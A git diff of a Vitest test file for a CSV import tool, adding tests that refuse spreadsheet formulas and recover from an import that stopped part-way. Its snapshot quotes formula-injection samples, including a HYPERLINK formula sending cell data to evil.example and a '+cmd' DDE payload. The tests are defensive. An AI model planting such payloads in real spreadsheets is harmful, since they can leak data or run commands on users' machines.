@@ -9,9 +9,10 @@ import { afterEach, describe, expect, it } from 'vitest';
 import { importActions, parseCellDate } from '../../src/authoring/import.ts';
 import { nodeWriter, temporaryPath } from '../../src/authoring/write-files.ts';
 import { checkContent } from '../../src/model/check.ts';
-import { actionColumns, actionsCsv } from '../../src/open-data/actions-csv.ts';
+import { actionColumns } from '../../src/open-data/actions-csv.ts';
 import { parseCsv } from '../../src/open-data/csv.ts';
 import { md, validTree, writeTree, type ContentTree, type Tree } from '../helpers/content-tree.ts';
+import { edited, publishedCsv, spreadsheetCsv } from './csv-files.ts';
 import { changedFiles, runScript, snapshotFiles } from './files.ts';
 
 let tree: ContentTree | undefined;
@@ -69,26 +70,6 @@ function styledTree(): Tree {
       ---
     `,
   };
-}
-
-/** The actions.csv the site publishes for the tree (with its byte-order mark). */
-function publishedCsv(contentDir: string, partnership = 'hampshire'): string {
-  const { index, problems } = checkContent(contentDir);
-  expect(problems).toEqual([]);
-  return `\uFEFF${actionsCsv(index.partnership(partnership)!.actions, (a) => `/${a.partnership.id}/actions/${a.id}/`)}`;
-}
-
-/** CSV as a spreadsheet saves it: quoted where RFC 4180 needs it, and no apostrophe added before anything. */
-const spreadsheetCsv = (rows: string[][]) =>
-  rows.map((row) => row.map((v) => (/[",\r\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v)).join(',')).join('\r\n') + '\r\n';
-
-/** The CSV with some cells changed, as a spreadsheet would save it: `edits[id][column] = value`. */
-function edited(csv: string, edits: Record<string, Partial<Record<(typeof actionColumns)[number], string>>>): string {
-  const [header, ...rows] = parseCsv(csv).rows;
-  return spreadsheetCsv([
-    header,
-    ...rows.map((row) => header.map((column, i) => edits[row[0]]?.[column as (typeof actionColumns)[number]] ?? row[i])),
-  ]);
 }
 
 function setUp(extra: Tree = {}) {
@@ -470,12 +451,26 @@ describe('npm run import and spreadsheet formulas', () => {
     expect(changedFiles(before, snapshotFiles(contentDir))).toEqual([]);
   });
 
-  it('takes a list written in a spreadsheet, without the apostrophe, as text', () => {
+  it('takes a list after a sentence as text, and refuses a new update that starts like a formula, even a list', () => {
     const { csvPath, contentDir, write } = setUp(formulaLike);
+    const csv = publishedCsv(contentDir);
+    // A list that starts the update reads as a formula to a spreadsheet ("- 1+cmd|..." runs one): refused.
     write(
-      edited(publishedCsv(contentDir), {
-        'list-update': { last_update_by: '-', last_update_text: '- completed audit\n- trained 40 staff' },
+      edited(csv, {
         'deliver-training': { last_update_date: '2021-06-30', last_update_text: '- sessions delivered\n+ 120 staff attended' },
+      }),
+    );
+    const refused = importActions({ csvPath, contentDir });
+    expect(refused.exitCode).toBe(1);
+    expect(stable(refused.report)).toContain(
+      'last_update_text: "- sessions delivered + 120 staff attended" is a spreadsheet formula, not text',
+    );
+    expect(refused.report).toContain('for a list, put a sentence first, like "Done:"');
+    // The same list after a sentence, and the list already in a file left as it is, go through.
+    write(
+      edited(csv, {
+        'list-update': { last_update_by: '-', last_update_text: '- completed audit\n- trained 40 staff' },
+        'deliver-training': { last_update_date: '2021-06-30', last_update_text: 'Done:\n- sessions delivered\n+ 120 staff attended' },
       }),
     );
     const result = importActions({ csvPath, contentDir });
@@ -484,7 +479,7 @@ describe('npm run import and spreadsheet formulas', () => {
     const action = checkContent(contentDir)
       .index.partnership('hampshire')!
       .actions.find((a) => a.id === 'deliver-training')!;
-    expect(action.entry.data.progress.at(-1)).toEqual({ date: '2021-06-30', text: '- sessions delivered\n+ 120 staff attended' });
+    expect(action.entry.data.progress.at(-1)).toEqual({ date: '2021-06-30', text: 'Done:\n- sessions delivered\n+ 120 staff attended' });
   });
 
   it('refuses a formula in any imported column, naming the row, the column and what to do, and writes nothing', () => {
@@ -503,19 +498,19 @@ describe('npm run import and spreadsheet formulas', () => {
     expect(stable(result.report)).toMatchInlineSnapshot(`
       "error actions.csv row 2
           last_update_text: "=HYPERLINK("https://evil.example/?d="&A1,"Report")" is a spreadsheet formula, not text
-          hint: the import never copies formulas into the plan: type the text itself (it may start with "- " for a list, but not with "=", "@", or "+" or "-" joined to what follows)
+          hint: the import never copies a formula into the plan: start the text with a letter or a digit, not with "=", "+", "-", "@", a tab or a line break (for a list, put a sentence first, like "Done:", and the list on the lines after it)
       error actions.csv row 3
           last_update_by: "@SUM(1+1)" is a spreadsheet formula, not text
-          hint: the import never copies formulas into the plan: type the text itself (it may start with "- " for a list, but not with "=", "@", or "+" or "-" joined to what follows)
+          hint: the import never copies a formula into the plan: start the text with a letter or a digit, not with "=", "+", "-", "@", a tab or a line break (for a list, put a sentence first, like "Done:", and the list on the lines after it)
       error actions.csv row 4
           status: "+cmd|' /C calc'!A0" is a spreadsheet formula, not text
-          hint: the import never copies formulas into the plan: type the text itself (it may start with "- " for a list, but not with "=", "@", or "+" or "-" joined to what follows)
+          hint: the import never copies a formula into the plan: start the text with a letter or a digit, not with "=", "+", "-", "@", a tab or a line break (for a list, put a sentence first, like "Done:", and the list on the lines after it)
       error actions.csv row 5
           rag: "=1+1" is a spreadsheet formula, not text
-          hint: the import never copies formulas into the plan: type the text itself (it may start with "- " for a list, but not with "=", "@", or "+" or "-" joined to what follows)
+          hint: the import never copies a formula into the plan: start the text with a letter or a digit, not with "=", "+", "-", "@", a tab or a line break (for a list, put a sentence first, like "Done:", and the list on the lines after it)
       error actions.csv row 5
           last_update_text: "-2+3+cmd|' /C calc'!A0" is a spreadsheet formula, not text
-          hint: the import never copies formulas into the plan: type the text itself (it may start with "- " for a list, but not with "=", "@", or "+" or "-" joined to what follows)
+          hint: the import never copies a formula into the plan: start the text with a letter or a digit, not with "=", "+", "-", "@", a tab or a line break (for a list, put a sentence first, like "Done:", and the list on the lines after it)
 
       5 problems found. Nothing was written; fix the spreadsheet and run the import again."
     `);
@@ -628,7 +623,7 @@ describe('npm run import when a file cannot be written', () => {
         rename(from, to) {
           if (to.endsWith('flow-style.md')) throw inUse();
           nodeWriter.rename(from, to);
-          renamed.push(path.basename(to));
+          if (to.endsWith('.md')) renamed.push(path.basename(to));
         },
       },
     });
@@ -698,7 +693,7 @@ describe('npm run import when a file cannot be written', () => {
       writer: {
         ...nodeWriter,
         rename(from, to) {
-          renames += 1;
+          if (to.endsWith('.md')) renames += 1;
           // The third file fails, and so does putting back the second.
           if (renames === 3 || renames === 4) throw inUse();
           nodeWriter.rename(from, to);
@@ -712,12 +707,24 @@ describe('npm run import when a file cannot be written', () => {
           hint: close any program that has the file open, check there is space on the disk and that you may change the folder, then run the import again
       error content/hampshire/actions/windows-file.md
           this file was changed and could not be put back: it is in use by another program (EBUSY)
-          hint: it holds the imported change; to undo it, put back its previous version (with git: git checkout -- content/hampshire/actions/windows-file.md)
+          hint: it holds the imported change until it is put back: close any program that has it open, then run \`npm run import -- --recover\`
 
-      The import stopped part-way: 1 file could not be put back (above); the other file already written was put back exactly as it was. Run \`npm run check\` before importing again."
+      The import stopped part-way: 1 file could not be put back (above); the other file already written was put back exactly as it was. The next import, or \`npm run import -- --recover\`, puts it back."
     `);
     expect(read('deliver-training.md')).toContain('status: in-progress');
     expect(read('windows-file.md')).toContain('rag: green');
+    // Until it is put back, the check refuses the content (so no site is built from half an
+    // import), and the next import puts it back before it does anything else.
+    expect(checkContent(contentDir).problems.map((p) => p.message)).toEqual([
+      'an import (or migrate) is running, or stopped part-way, so some files may hold part of its changes',
+    ]);
+    const again = importActions({ csvPath, contentDir, today: '2021-07-15' });
+    expect(again.exitCode, again.report).toBe(0);
+    expect(stable(again.report).split('\n')[0]).toMatch(
+      /^An earlier import \(process \d+, started .* UTC\) stopped part-way, so it has been undone\. The file it had changed is back as it was before it: content\/hampshire\/actions\/windows-file\.md\.$/,
+    );
+    expect(again.changes).toHaveLength(3);
+    expect(checkContent(contentDir).problems).toEqual([]);
   });
 });
 
